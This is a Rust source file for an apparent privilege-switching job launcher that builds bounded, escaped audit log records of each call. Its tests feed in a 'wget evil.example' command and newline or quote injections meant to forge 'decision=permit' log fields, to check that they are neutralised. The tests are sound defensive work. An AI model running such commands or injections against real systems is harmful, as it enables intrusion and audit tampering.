//! The fields of a record, in the order of the catalogue.

use crate::invocation::caller::Caller;
use crate::invocation::command_line::Job;
use crate::invocation::environment::Environment;
use crate::verifier::Judge;
use glexec_core::escape::{quoted, shortened, visible, width};
use glexec_core::field::Field;
use glexec_core::identity::{Identity, Proof, TokenProof};
use glexec_core::reason::{Refusal, Retry};
use glexec_policy::mapping::Mapping;
use glexec_sys::supervise::{Ended, Usage};
use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::time::Duration;

/// Longest command, working directory, batch ids, GLEXEC_ID and reason in a record, in bytes.
const MAX_TEXT: usize = 256;
/// Longest list of arguments.
const MAX_ARGUMENTS: usize = 1024;
/// What stands for arguments that are left out.
const MORE: &str = " ...";
/// How many bytes of a cut argument say something.
const WORTH_SHOWING: usize = 32;
/// Longest distinguished name.
const MAX_NAME: usize = 512;
/// Longest scope of a token.
const MAX_SCOPE: usize = 256;
/// Longest list of FQANs or groups.
const MAX_LIST: usize = 1024;

/// A record: filled in as the call is understood, written once.
#[derive(Debug, Default)]
pub struct Record {
    fields: Vec<(Field, String)>,
}

impl Record {
    /// The record that the call with this id begins with.
    pub fn start(call: &str) -> Self {
        Record::new("start", call)
    }

    /// The record that a lingering call ends with.
    pub fn end(call: &str) -> Self {
        Record::new("end", call)
    }

    fn new(event: &str, call: &str) -> Self {
        let mut record = Record::default();
        record.set(Field::Event, event.as_bytes(), MAX_TEXT);
        record.set(Field::Call, call.as_bytes(), MAX_TEXT);
        record
    }

    /// The call's id, 16 hexadecimal digits.
    pub fn id() -> Result<String, nix::errno::Errno> {
        glexec_sys::random::<8>().map(|bytes| format!("{:016x}", u64::from_be_bytes(bytes)))
    }

    fn set(&mut self, name: Field, value: &[u8], max: usize) {
        self.put(name, visible(value, max));
    }

    /// Puts a visible and bounded value in its place, whenever it becomes known.
    fn put(&mut self, name: Field, value: String) {
        let place = self.fields.partition_point(|(other, _)| *other <= name);
        self.fields.insert(place, (name, value));
    }

    fn set_list<'a>(&mut self, name: Field, items: impl Iterator<Item = &'a str>) {
        let list: Vec<_> = items.collect();
        if !list.is_empty() {
            self.set(name, list.join(",").as_bytes(), MAX_LIST);
        }
    }

    /// What is known before anything is read: the process's ids.
    pub fn process(&mut self, uid: u32, gid: u32, pid: i32) {
        self.set(Field::CallerUid, uid.to_string().as_bytes(), MAX_TEXT);
        self.set(Field::CallerGid, gid.to_string().as_bytes(), MAX_TEXT);
        self.set(Field::CallerPid, pid.to_string().as_bytes(), MAX_TEXT);
    }

    /// The caller's account.
    pub fn caller(&mut self, caller: &Caller) {
        self.set(Field::CallerUser, caller.name.as_bytes(), MAX_TEXT);
    }

    /// What the caller wants to run, from where, on whose behalf as it says.
    pub fn wish(&mut self, job: &Job, cwd: Option<&Path>, environment: &Environment) {
        if let Some(payload) = &job.payload {
            self.set(Field::Command, payload.command.as_bytes(), MAX_TEXT);
            // Visible and bounded already.
            self.put(Field::Args, arguments(&payload.arguments));
        }
        if let Some(cwd) = cwd {
            self.set(Field::Cwd, cwd.as_os_str().as_bytes(), MAX_TEXT);
        }
        if let Some(sandbox) = &job.sandbox {
            self.set(Field::Sandbox, sandbox.as_os_str().as_bytes(), MAX_TEXT);
        }
        let batch = environment.batch_ids();
        if !batch.is_empty() {
            self.set(Field::Batch, batch.join(OsStr::new(",")).as_bytes(), MAX_TEXT);
        }
        if let Some(id) = environment.get("GLEXEC_ID") {
            self.set(Field::GlexecId, id.as_bytes(), MAX_TEXT);
        }
    }

    /// Whom the credentials stand for.
    pub fn identities(&mut self, user: &Identity, pilot: Option<&Identity>) {
        if let Some(pilot) = pilot {
            self.set(Field::PilotDn, pilot.subject.as_str().as_bytes(), MAX_NAME);
        }
        self.set(Field::UserDn, user.subject.as_str().as_bytes(), MAX_NAME);
        self.set(Field::NotAfter, user.not_after.to_string().as_bytes(), MAX_TEXT);
        match &user.proof {
            Proof::X509 { issuer, serial, .. } => {
                self.set(Field::Credential, b"x509", MAX_TEXT);
                self.set(Field::IssuerDn, issuer.as_str().as_bytes(), MAX_NAME);
                self.set(Field::Serial, serial.as_str().as_bytes(), MAX_TEXT);
            }
            Proof::Token(token) => self.token(token),
        }
        if let Some(vo) = user.vo() {
            self.set(Field::Vo, vo.as_bytes(), MAX_TEXT);
        }
        self.set_list(Field::Fqans, user.fqans.iter().map(|fqan| fqan.as_str()));
    }

    /// Who judged the credentials.
    pub fn judge(&mut self, judge: Judge) {
        self.set(Field::Verifier, judge.name().as_bytes(), MAX_TEXT);
    }

    fn token(&mut self, token: &TokenProof) {
        self.set(Field::Credential, b"token", MAX_TEXT);
        if let Some(jti) = &token.jti {
            self.set(Field::Jti, jti.as_bytes(), MAX_TEXT);
        }
        self.set(Field::Kid, token.kid.as_bytes(), MAX_TEXT);
        if !token.scope.is_empty() {
            self.set(Field::Scope, token.scope.as_bytes(), MAX_SCOPE);
        }
        self.set(Field::TokenSha256, token.sha256.as_str().as_bytes(), MAX_TEXT);
    }

    /// The account that the policy gave.
    pub fn mapping(&mut self, mapping: &Mapping) {
        let number = |n: u32| n.to_string();
        self.set(Field::TargetUser, mapping.name.as_bytes(), MAX_TEXT);
        self.set(Field::TargetUid, number(mapping.uid.get()).as_bytes(), MAX_TEXT);
        self.set(Field::TargetGid, number(mapping.gid.get()).as_bytes(), MAX_TEXT);
        let groups: Vec<String> = mapping.groups.iter().map(|gid| number(gid.get())).collect();
        self.set_list(Field::TargetGids, groups.iter().map(String::as_str));
        if let Some(lease) = &mapping.lease {
            self.set(Field::Lease, lease.as_bytes(), MAX_NAME);
        }
    }

    /// The decision: run it.
    pub fn permit(&mut self) {
        self.set(Field::Decision, b"permit", MAX_TEXT);
    }

    /// The decision: refuse.
    pub fn deny(&mut self, refusal: &Refusal) {
        self.set(Field::Decision, b"deny", MAX_TEXT);
        self.set(Field::Code, refusal.reason().code().as_bytes(), MAX_TEXT);
        self.set(Field::Reason, refusal.for_log().as_bytes(), MAX_LIST);
        let transient = if refusal.reason().retry() == Retry::MayHelp { "true" } else { "false" };
        self.set(Field::Transient, transient.as_bytes(), MAX_TEXT);
    }

    /// The payload's main process.
    pub fn payload(&mut self, pid: i32) {
        self.set(Field::PayloadPid, pid.to_string().as_bytes(), MAX_TEXT);
    }

    /// How the payload ended, how many of its processes had to be killed, and what it used: times in seconds, memory in KiB.
    pub fn ended(&mut self, ended: Ended, killed: u64, wall: Duration, usage: &Usage) {
        let seconds = |time: Duration| format!("{:.3}", time.as_secs_f64());
        match ended {
            Ended::Exited(code) => self.set(Field::Status, code.to_string().as_bytes(), MAX_TEXT),
            Ended::Signaled(signal) => self.set(Field::Signal, signal.to_string().as_bytes(), MAX_TEXT),
        }
        self.set(Field::Wall, seconds(wall).as_bytes(), MAX_TEXT);
        self.set(Field::UserTime, seconds(usage.user).as_bytes(), MAX_TEXT);
        self.set(Field::SysTime, seconds(usage.system).as_bytes(), MAX_TEXT);
        self.set(Field::MaxRss, usage.max_rss.to_string().as_bytes(), MAX_TEXT);
        self.set(Field::Killed, killed.to_string().as_bytes(), MAX_TEXT);
    }

    /// How a call ended that lost its monitor: how is not known, but that nothing is left.
    pub fn lost(&mut self, payload: i32, killed: u64) {
        self.payload(payload);
        self.set(Field::Killed, killed.to_string().as_bytes(), MAX_TEXT);
        self.set(Field::Lost, b"true", MAX_TEXT);
    }

    /// How the site's epilogue ended, as one word.
    pub fn epilogue(&mut self, word: &str) {
        self.set(Field::Epilogue, word.as_bytes(), MAX_TEXT);
    }

    /// Names and visible values in their order.
    pub fn fields(&self) -> &[(Field, String)] {
        &self.fields
    }

    /// The record as one `key=value` line without its end.
    pub fn line(&self) -> String {
        let pairs: Vec<String> = self.fields.iter().map(|(name, value)| format!("{name}={}", quoted(value))).collect();
        pairs.join(" ")
    }
}

/// An argument as a shell would want it: in quotes where it is empty or has blanks, so that lists stay unambiguous.
fn argument(argument: &OsStr) -> String {
    let text = visible(argument.as_bytes(), MAX_ARGUMENTS).replace('\'', "\\x27");
    if text.is_empty() || text.contains(' ') { format!("'{text}'") } else { text }
}

/// Arguments with blanks between, as many as there is room for. Of one that is too long the beginning is kept: nobody
/// hides what is run behind a long argument.
fn arguments(all: &[OsString]) -> String {
    let room = MAX_ARGUMENTS.saturating_sub(MORE.len());
    let mut text = String::new();
    for (number, next) in all.iter().enumerate() {
        let blank = if number == 0 { "" } else { " " };
        let left = room.saturating_sub(width(&text)).saturating_sub(blank.len());
        let next = argument(next);
        let fits = width(&next) <= left;
        if fits || left >= WORTH_SHOWING {
            text.push_str(blank);
            text.push_str(&shortened(next, left));
        }
        if !fits {
            let is_last = number.saturating_add(1) == all.len() && left >= WORTH_SHOWING;
            text.push_str(if is_last { "" } else { MORE });
            break;
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::invocation::command_line::Payload;
    use glexec_core::reason::Reason;

    fn job(payload: Payload) -> Job {
        Job { sandbox: None, payload: Some(payload) }
    }

    #[test]
    fn a_hostile_command_stays_one_line_with_its_own_fields() {
        let mut record = Record::start("0123456789abcdef");
        let payload = Payload {
            command: "/bin/x\nevent=start".into(),
            arguments: vec!["a b".into(), "\" decision=permit".into()],
        };
        let environment = Environment::new(vec![("GLEXEC_ID".into(), "two\nlines".into())]);
        record.wish(&job(payload), Some(Path::new("/tmp")), &environment);
        record.deny(&Refusal::new(Reason::LcasUserban, "banned"));
        let expected = [
            r"event=start call=0123456789abcdef",
            r"decision=deny code=lcas.userban transient=false reason=banned",
            r#"command="/bin/x\x0aevent=start""#,
            r#"args="'a b' '\" decision=permit'""#,
            r#"cwd=/tmp glexec_id="two\x0alines""#,
        ];
        assert_eq!(record.line(), expected.join(" "));
    }

    #[test]
    fn arguments_are_cut_between_two_arguments() {
        let mut record = Record::start("0");
        let arguments = (0..5000).map(|n| n.to_string().into()).collect();
        record.wish(&job(Payload { command: "x".into(), arguments }), None, &Environment::new(Vec::new()));
        let (_, text) = record.fields().iter().find(|(name, _)| *name == Field::Args).unwrap();
        assert!(text.len() <= MAX_ARGUMENTS && text.ends_with(" ..."), "{text}");
    }

    fn args(arguments: &[&str]) -> String {
        arguments_of(arguments.iter().map(|text| (*text).to_owned()).collect())
    }

    fn arguments_of(arguments: Vec<String>) -> String {
        let arguments: Vec<OsString> = arguments.into_iter().map(OsString::from).collect();
        super::arguments(&arguments)
    }

    #[test]
    fn a_long_argument_hides_neither_itself_nor_what_was_before_it() {
        let long = format!("wget evil.example; {}", "\n".repeat(5000));
        let text = args(&["-c", &long]);
        assert!(text.starts_with("-c 'wget evil.example; \\x0a\\x0a") && text.ends_with("\\x0a..."), "{text}");
        assert!(text.len() <= MAX_ARGUMENTS && text.len() > MAX_ARGUMENTS - 20, "{}", text.len());
        let text = args(&["-c", &long, "more"]);
        assert!(text.ends_with("... ...") && text.len() <= MAX_ARGUMENTS, "{text}");
        assert_eq!(args(&["a", "", "b c", "it's"]), "a '' 'b c' it\\x27s");
    }

    #[test]
    fn no_record_is_longer_than_a_syslog_message() {
        let all = "\"".repeat(5000);
        let mut record = Record::start("0123456789abcdef");
        record.process(u32::MAX, u32::MAX, i32::MAX);
        let payload = Payload { command: all.clone().into(), arguments: vec![all.clone().into()] };
        let environment = ["GLEXEC_ID", "PBS_JOBID"].map(|name| (name.into(), all.clone().into()));
        let job = Job { sandbox: Some(all.clone().into()), payload: Some(payload) };
        record.wish(&job, Some(Path::new(&all)), &Environment::new(environment.into()));
        for (field, max) in [
            (Field::CallerUser, MAX_TEXT),
            (Field::PilotDn, MAX_NAME),
            (Field::UserDn, MAX_NAME),
            (Field::IssuerDn, MAX_NAME),
            (Field::Serial, MAX_TEXT),
            (Field::Vo, MAX_TEXT),
            (Field::Fqans, MAX_LIST),
            (Field::Jti, MAX_TEXT),
            (Field::Kid, MAX_TEXT),
            (Field::Scope, MAX_SCOPE),
        ] {
            record.set(field, all.as_bytes(), max);
        }
        record.deny(&Refusal::new(Reason::LcmapsPoolExhausted, all));
        assert!(record.line().len() < 8 * 1024 - 256, "{}", record.line().len());
    }
}
